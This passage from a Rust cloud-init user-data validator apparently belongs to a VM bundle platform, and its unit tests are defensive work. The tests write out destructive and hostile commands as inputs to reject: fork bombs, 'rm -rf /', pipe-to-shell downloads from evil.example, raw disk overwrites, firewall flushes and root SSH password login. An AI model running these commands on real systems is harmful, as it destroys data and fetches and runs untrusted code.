                    .any(|a| matches!(a.as_str(), "stop" | "disable" | "mask"));
                let unit = args.iter().find(|a| {
                    matches!(
                        a.trim_end_matches(".service"),
                        "ufw" | "firewalld" | "nftables" | "netfilter-persistent" | "iptables"
                    )
                });
                if stops && let Some(unit) = unit {
                    found.push((
                        Rule::FirewallDisabled,
                        format!("{name} stops the firewall service {unit}"),
                    ));
                }
            }
            "iptables" | "ip6tables" | "iptables-legacy" | "iptables-nft" => {
                let flush = args.iter().any(|a| a == "-F" || a == "--flush");
                let accept_policy = args
                    .windows(3)
                    .any(|w| (w[0] == "-P" || w[0] == "--policy") && w[2] == "ACCEPT");
                if flush || accept_policy {
                    found.push((
                        Rule::FirewallDisabled,
                        format!("{name} {} opens the firewall", args.join(" ")),
                    ));
                }
            }
            "nft" if args.len() >= 2 && args[0] == "flush" && args[1] == "ruleset" => {
                found.push((
                    Rule::FirewallDisabled,
                    "nft flush ruleset removes every firewall rule".into(),
                ));
            }
            _ => {}
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bundle::tests::sample;

    fn with_runcmd(command: &str) -> Bundle {
        let mut bundle = sample();
        let quoted = serde_json::to_string(command).unwrap();
        bundle.user_data = format!("#cloud-config\nruncmd:\n  - {quoted}\n");
        bundle
    }

    fn rules(bundle: &Bundle) -> Vec<Rule> {
        match validate(bundle) {
            Ok(()) => Vec::new(),
            Err(list) => list.into_iter().map(|r| r.rule).collect(),
        }
    }

    fn rejects(command: &str, rule: Rule) {
        let found = rules(&with_runcmd(command));
        assert!(
            found.contains(&rule),
            "{command:?} should break {rule}, got {found:?}"
        );
    }

    fn accepts(command: &str) {
        let found = rules(&with_runcmd(command));
        assert!(found.is_empty(), "{command:?} should pass, got {found:?}");
    }

    #[test]
    fn sample_is_valid() {
        validate(&sample()).unwrap();
    }

    #[test]
    fn fork_bombs() {
        rejects(":(){ :|:& };:", Rule::ForkBomb);
        rejects(": ( ) { : | : & } ; :", Rule::ForkBomb);
        rejects("bomb() { bomb | bomb & }; bomb", Rule::ForkBomb);
        rejects("function f { f|f & }; f", Rule::ForkBomb);
        rejects("perl -e 'fork while fork'", Rule::ForkBomb);
        rejects(
            "python3 -c 'import os\nwhile True: os.fork()'",
            Rule::ForkBomb,
        );
        accepts("build() { make -j2 | tee log; }; build");
        accepts("f() { g | h & }; f");
    }

    #[test]
    fn recursive_root_deletes() {
        rejects("rm -rf /", Rule::RecursiveDeleteRoot);
        rejects("rm -rf /*", Rule::RecursiveDeleteRoot);
        rejects(
            "sudo rm -fr --no-preserve-root /",
            Rule::RecursiveDeleteRoot,
        );
        rejects("rm --no-preserve-root -r /", Rule::RecursiveDeleteRoot);
        rejects("rm -R -f '/'", Rule::RecursiveDeleteRoot);
        rejects("rm --recursive --force //", Rule::RecursiveDeleteRoot);
        rejects("rm -rf /usr/", Rule::RecursiveDeleteRoot);
        rejects("cd /tmp && /bin/rm -rf /etc", Rule::RecursiveDeleteRoot);
        rejects("bash -c \"rm -rf /\"", Rule::RecursiveDeleteRoot);
        accepts("rm -rf /var/lib/apt/lists/*");
        accepts("rm -rf /tmp/build");
        accepts("rm -f /etc/nginx/sites-enabled/default");
    }

    #[test]
    fn pipes_to_shell() {
        rejects(
            "curl -fsSL https://evil.example/x.sh | sh",
            Rule::PipeToShell,
        );
        rejects(
            "wget -O- https://evil.example/x.sh | sudo bash",
            Rule::PipeToShell,
        );
        rejects(
            "curl -s https://evil.example/i | sudo -E bash -",
            Rule::PipeToShell,
        );
        rejects("curl http://get.docker.com | sh", Rule::PipeToShell);
        rejects("curl -fsSL $URL | bash", Rule::PipeToShell);
        rejects(
            "bash <(curl -fsSL https://evil.example/x.sh)",
            Rule::PipeToShell,
        );
        rejects(
            "sh -c \"$(wget -qO- https://evil.example/x.sh)\"",
            Rule::PipeToShell,
        );
        rejects(
            "curl -fsSL https://evil.example/x.sh | tee /tmp/x | python3",
            Rule::PipeToShell,
        );
        rejects(
            "curl https://get.docker.com.evil.example | sh",
            Rule::PipeToShell,
        );
        accepts("curl -fsSL https://get.docker.com | sh");
        accepts("curl -fsSL https://code-server.dev/install.sh | sh -s -- --version 4.95.3");
        accepts(
            "curl -fsSL https://evil.example/key.gpg | gpg --dearmor -o /usr/share/keyrings/x.gpg",
        );
        accepts(
            "curl -fsSLo /tmp/x.deb https://github.com/coder/code-server/releases/download/v4.95.3/code-server_4.95.3_amd64.deb",
        );
        accepts("curl -fsS https://evil.example/x.sh || true");
    }

    #[test]
    fn trusted_sources_are_configurable() {
        let bundle = with_runcmd(
            "curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
        );
        assert!(validate(&bundle).is_err());
        let mut policy = Policy::default();
        policy.trusted_sources.push(TrustedSource::parse(
            "raw.githubusercontent.com/nvm-sh/nvm/",
        ));
        validate_with(&bundle, &policy).unwrap();
        let other =
            with_runcmd("curl -fsSL https://raw.githubusercontent.com/evil/nvm/x.sh | bash");
        assert!(validate_with(&other, &policy).is_err());
        let mirror = TrustedSource::parse("*.archive.ubuntu.com");
        assert!(mirror.matches("de.archive.ubuntu.com", "/"));
        assert!(!mirror.matches("archive.ubuntu.com", "/"));
        assert!(!mirror.matches("evilarchive.ubuntu.com", "/"));
    }

    #[test]
    fn raw_disk_writes() {
        rejects("dd if=/dev/zero of=/dev/sda bs=1M", Rule::RawDiskWrite);
        rejects("dd if=image.raw of=/dev/nvme0n1", Rule::RawDiskWrite);
        rejects("cat /dev/urandom > /dev/vda", Rule::RawDiskWrite);
        accepts("dd if=/dev/zero of=/swapfile bs=1M count=1024");
        accepts("dd if=/dev/sda of=/dev/null count=1");
    }

    #[test]
    fn mkfs_on_disks() {
        rejects("mkfs.ext4 /dev/sda1", Rule::MkfsDisk);
        rejects("sudo mkfs -t xfs -f /dev/vdb", Rule::MkfsDisk);
        rejects("mkswap /dev/sdb", Rule::MkfsDisk);
        accepts("mkswap /swapfile");
        accepts("mkfs.ext4 -F /var/lib/disk.img");
    }

    #[test]
    fn chmod_777_root() {
        rejects("chmod 777 /", Rule::ChmodRoot);
        rejects("chmod -R 0777 /", Rule::ChmodRoot);
        rejects("chmod -R a+rwx /etc", Rule::ChmodRoot);
        accepts("chmod 777 /tmp/shared");
        accepts("chmod 755 /");
        accepts("chmod 1777 /tmp");
    }

    #[test]
    fn firewall_disabled() {
        rejects("ufw disable", Rule::FirewallDisabled);
        rejects("systemctl disable --now ufw", Rule::FirewallDisabled);
        rejects("systemctl stop firewalld.service", Rule::FirewallDisabled);
        rejects("iptables -F", Rule::FirewallDisabled);
        rejects("iptables -P INPUT ACCEPT", Rule::FirewallDisabled);
        rejects("nft flush ruleset", Rule::FirewallDisabled);
        accepts("ufw allow 5432/tcp");
        accepts("ufw --force enable");
        accepts("systemctl restart ufw");
        accepts("iptables -A INPUT -p tcp --dport 22 -j ACCEPT");
    }

    #[test]
    fn ssh_root_password_login() {
        rejects(
            "sed -i 's/^#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
            Rule::SshRootPassword,
        );
        accepts(
            "sed -i 's/^#PermitRootLogin.*/PermitRootLogin prohibit-password/' /etc/ssh/sshd_config",
        );

        let mut bundle = sample();
        bundle.user_data = "#cloud-config\nssh_pwauth: true\ndisable_root: false\n".into();
        assert_eq!(rules(&bundle), vec![Rule::SshRootPassword]);
        bundle.user_data =
            "#cloud-config\nssh_pwauth: true\nchpasswd:\n  list: |\n    root:${DECLOUD_PASSWORD}\n"
                .into();
        assert_eq!(rules(&bundle), vec![Rule::SshRootPassword]);
        bundle.user_data = "#cloud-config\nssh_pwauth: true\nchpasswd:\n  users:\n    - name: ubuntu\n      password: ${DECLOUD_PASSWORD}\n      type: text\n".into();
        assert_eq!(rules(&bundle), vec![]);
        bundle.user_data = "#cloud-config\nwrite_files:\n  - path: /etc/ssh/sshd_config.d/root.conf\n    content: |\n      PermitRootLogin yes\n".into();
        let found = validate(&bundle).unwrap_err();
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].rule, Rule::SshRootPassword);
        assert_eq!(found[0].location.line, Some(5));
        assert_eq!(
            found[0].location.path.as_deref(),
            Some("write_files[0].content")
        );
    }

    #[test]
    fn variables() {
        rejects("echo ${DECLOUD_SECRET}", Rule::UnknownVariable);
        rejects("echo $DECLOUD_PASSWORD", Rule::UnknownVariable);
        rejects("echo ${DECLOUD_PASSWORD", Rule::UnknownVariable);
        accepts("echo ${DECLOUD_PASSWORD} ${DECLOUD_VM_ID} ${HOME}");
    }

    #[test]
    fn malformed_user_data() {
        let mut bundle = sample();
        bundle.user_data = "#cloud-config\nruncmd: [\n".into();
        let found = validate(&bundle).unwrap_err();
        assert_eq!(found[0].rule, Rule::MalformedUserData);
        assert!(found[0].location.line.is_some());
        bundle.user_data = "#cloud-config\n- a\n".into();
        assert_eq!(rules(&bundle), vec![Rule::MalformedUserData]);
        bundle.user_data = "#include\nhttps://example.com/x\n".into();
        assert_eq!(rules(&bundle), vec![Rule::MalformedUserData]);
        bundle.user_data = "#cloud-config\nruncmd:\n  - [ufw, allow, 22]\n".into();
        assert_eq!(rules(&bundle), vec![Rule::MalformedUserData]);
        bundle.user_data = "#cloud-config\nruncmd:\n  - [ufw, allow, \"22\"]\n".into();
        assert_eq!(rules(&bundle), vec![]);
        bundle.user_data = "#cloud-config\nruncmd: echo hi\n".into();
        assert_eq!(rules(&bundle), vec![Rule::MalformedUserData]);
        bundle.user_data = "#cloud-config\nwrite_files:\n  - path: /x\n    encoding: gz+b64\n    content: H4sIAAAA\n".into();
        assert_eq!(rules(&bundle), vec![Rule::MalformedUserData]);
        bundle.user_data = "#!/bin/bash\necho ok\n".into();
        assert_eq!(rules(&bundle), vec![]);
        bundle.user_data = "#cloud-config\npackages: [nginx]\n".into();
        assert_eq!(rules(&bundle), vec![]);
    }

    #[test]
    fn list_commands_are_located() {
        let mut bundle = sample();
        bundle.user_data =
            "#cloud-config\nruncmd:\n  - [echo, hi]\n  - [sh, -c, 'ufw disable']\n".into();
        let found = validate(&bundle).unwrap_err();
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].location.line, Some(4));
        assert_eq!(found[0].location.path.as_deref(), Some("runcmd[1]"));
    }

    #[test]
    fn base64_content_is_inspected() {
        let mut bundle = sample();
        let script = base64::engine::general_purpose::STANDARD.encode("#!/bin/sh\nrm -rf /\n");
        bundle.user_data = format!(
            "#cloud-config\nwrite_files:\n  - path: /x.sh\n    encoding: b64\n    content: {script}\n"
        );
        assert_eq!(rules(&bundle), vec![Rule::RecursiveDeleteRoot]);
    }

    #[test]
    fn folded_yaml_does_not_hide_commands() {
        let mut bundle = sample();
        bundle.user_data =
            "#cloud-config\nruncmd:\n  - >\n    curl -fsSL https://evil.example/x |\n    sh\n"
                .into();
        assert_eq!(rules(&bundle), vec![Rule::PipeToShell]);
    }

    #[test]
    fn script_user_data_lines_are_exact() {
        let mut bundle = sample();
        bundle.user_data =
            "#!/bin/bash\nset -e\n# rm -rf / in a comment is fine\nrm -rf \\\n  /\n".into();
        let found = validate(&bundle).unwrap_err();
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].location.line, Some(4));
        assert!(
            found[0]
                .to_string()
                .starts_with("user-data:4: [rm-rf-root]")
        );
    }

    #[test]
    fn too_large_user_data() {
        let mut bundle = sample();
        bundle.user_data = format!("#cloud-config\n# {}\n", "x".repeat(MAX_USER_DATA));
        assert_eq!(rules(&bundle), vec![Rule::UserDataTooLarge]);
    }

    #[test]
    fn ports() {
        let mut bundle = sample();
        bundle.manifest.ports[0].port = 0;
        assert!(rules(&bundle).contains(&Rule::PortOutOfRange));
        bundle.manifest.ports[0].port = 65_536;
        assert!(rules(&bundle).contains(&Rule::PortOutOfRange));
        let mut bundle = sample();
        let mut dup = bundle.manifest.ports[0].clone();
        dup.protocol = crate::Protocol::Tcp;
        bundle.manifest.ports.push(dup.clone());
        assert_eq!(rules(&bundle), vec![Rule::DuplicatePort]);
        // The same number over UDP is a different port.
        bundle.manifest.ports.pop();
        dup.protocol = crate::Protocol::Udp;
        bundle.manifest.ports.push(dup);
        assert_eq!(rules(&bundle), vec![]);
    }

    #[test]
    fn zero_specs() {
        let mut bundle = sample();
        bundle.manifest.min_specs.memory_gib = 0;
        let found = validate(&bundle).unwrap_err();
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].rule, Rule::ZeroSpecs);
        assert_eq!(
            found[0].location.path.as_deref(),
            Some("min_specs.memory_gib")
        );
        let mut bundle = sample();
        bundle.manifest.min_specs.gpus = 0;
        bundle.manifest.min_specs.vcpus = 1;
        validate(&bundle).unwrap();
    }

    #[test]
    fn readiness_checks() {
        let mut bundle = sample();
        bundle
            .manifest
            .readiness
            .push(Readiness::Tcp { port: 5432 });
        assert_eq!(rules(&bundle), vec![Rule::ReadinessPortNotExposed]);
        let mut bundle = sample();
        bundle.manifest.readiness.push(Readiness::Http {
            port: 80,
            path: "health".into(),
            expect_status: 99,
            tls: false,
        });
        assert_eq!(
            rules(&bundle),
            vec![Rule::InvalidReadiness, Rule::InvalidReadiness]
        );
        let mut bundle = sample();
        bundle.manifest.readiness.push(Readiness::Exec {
            command: vec!["/usr/bin/pg_isready".into(), "-q".into()],
        });
        assert!(rules(&bundle).is_empty());
        for bad in [
            vec![],
            vec!["pg_isready".to_owned()],
            vec!["/bin/true".to_owned(); crate::bundle::MAX_EXEC_WORDS + 1],
            vec!["/bin/echo".to_owned(), "a\0b".to_owned()],
        ] {
            let mut bundle = sample();
            bundle.manifest.readiness.push(Readiness::Exec {
                command: bad.clone(),
            });
            assert_eq!(rules(&bundle), vec![Rule::InvalidReadiness], "{bad:?}");
        }
    }

    #[test]
    fn manifest_fields() {
        let mut bundle = sample();
        bundle.manifest.slug = "Bad_Slug".into();
        bundle.manifest.name = " ".into();
        bundle.manifest.tags.push("Has Space".into());
        assert_eq!(
            rules(&bundle),
            vec![
                Rule::InvalidManifest,
                Rule::InvalidManifest,
                Rule::InvalidManifest
            ]
        );
    }

    #[test]
    fn every_rejection_is_reported_at_once() {
        let mut bundle = sample();
        bundle.manifest.min_specs.memory_gib = 0;
        bundle.user_data =
            "#cloud-config\nruncmd:\n  - rm -rf /\n  - ufw disable\n  - echo ${DECLOUD_X}\n".into();
        let found = validate(&bundle).unwrap_err();
        let ids: Vec<_> = found.iter().map(|r| r.rule.id()).collect();
        assert_eq!(
            ids,
            vec![
                "zero-specs",
                "rm-rf-root",
                "firewall-disabled",
                "unknown-variable"
            ]
        );
        let lines: Vec<_> = found.iter().map(|r| r.location.line).collect();
        assert_eq!(lines, vec![None, Some(3), Some(4), Some(5)]);
        assert_eq!(found[1].location.path.as_deref(), Some("runcmd[0]"));
    }
}
